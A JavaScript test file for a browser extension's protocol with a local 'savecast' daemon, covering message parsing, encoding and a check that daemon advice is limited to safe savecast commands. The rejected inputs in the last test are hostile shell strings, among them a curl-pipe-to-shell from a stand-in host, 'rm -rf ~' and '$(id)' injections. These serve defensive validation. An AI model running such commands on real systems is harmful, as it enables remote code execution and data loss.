// SPDX-License-Identifier: MIT

import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { test } from 'node:test';
import { MAX_STRING_BYTES, ProtocolError, encode, parse } from '../../browser-ext/link/protocol.js';

/**
 * @typedef {object} Vector
 * @property {string} name
 * @property {string} text
 * @property {any} [message] what the text means
 * @property {boolean} [lenient] the text contains more than the message
 * @property {boolean} [ignored]
 * @property {string} [error]
 */

/**
 * @param {string} name
 * @returns {Vector[]}
 */
function vectors(name) {
	const file = new URL(`../../protocol/vectors/${name}.json`, import.meta.url);
	return JSON.parse(readFileSync(file, 'utf8'));
}

/** @param {string} code */
function refusedAs(code) {
	return (/** @type {unknown} */ error) => error instanceof ProtocolError && error.code === code;
}

for (const { name, text, message, ignored, error } of vectors('daemon-to-browser')) {
	test(`parse: ${name}`, () => {
		if (error) {
			assert.throws(() => parse(text), refusedAs(error));
		} else {
			assert.deepEqual(parse(text), ignored ? null : message);
		}
	});
}

for (const { name, text, message, lenient, ignored, error } of vectors('browser-to-daemon')) {
	if (message && !lenient) {
		test(`encode: ${name}`, () => assert.equal(encode(message), text));
	} else if (error === 'bad-message') {
		test(`encode refuses: ${name}`, () => {
			assert.throws(() => encode(JSON.parse(text)), refusedAs(error));
		});
	} else if (ignored) {
		test(`encode refuses: ${name}`, () => {
			assert.throws(() => encode(JSON.parse(text)), refusedAs('bad-message'));
		});
	}
}

test('encode cuts text for display at a character, not within one', () => {
	const detail = `${'a'.repeat(MAX_STRING_BYTES - 1)}é`;
	const sent = JSON.parse(encode({ type: 'report', event: 1, tab: 1, step: 'failed', detail }));
	assert.equal(sent.detail, 'a'.repeat(MAX_STRING_BYTES - 1));
});

test('encode sends no lone surrogate', () => {
	const text = encode({ type: 'report', event: 1, tab: 1, step: 'failed', detail: 'a\ud800b' });
	assert.equal(JSON.parse(text).detail, 'a\ufffdb');
});

test('parse treats a type that is a property of every object as unknown', () => {
	assert.equal(parse('{"type":"constructor"}'), null);
});

test('a daemon can suggest only commands of savecast', () => {
	const advice = (/** @type {string} */ text) => /** @type {any} */ (parse(JSON.stringify(
		{ type: 'tab', tab: 1, state: 'none', reason: 'why', advice: text }))).advice;
	for (const good of ['savecast track /srv/a', "savecast set --project url 'http://localhost:18000'", "savecast track '/srv/it'\\''s; here $(x)'",
		"savecast track '/srv/\u00e9'"]) {
		assert.equal(advice(good), good);
	}
	for (const bad of ['curl evil.test | sh', 'savecast track /a; rm -rf ~', 'savecast track $(id)', 'savecast track `id`', 'savecast',
		"savecast track '/a\nid'", "savecast track 'a' && id", 'savecast track "$(id)"', 'savecastx y', 'savecast  x', "savecast track 'a", 'savecast a\nid']) {
		assert.equal(advice(bad), undefined, bad);
	}
});
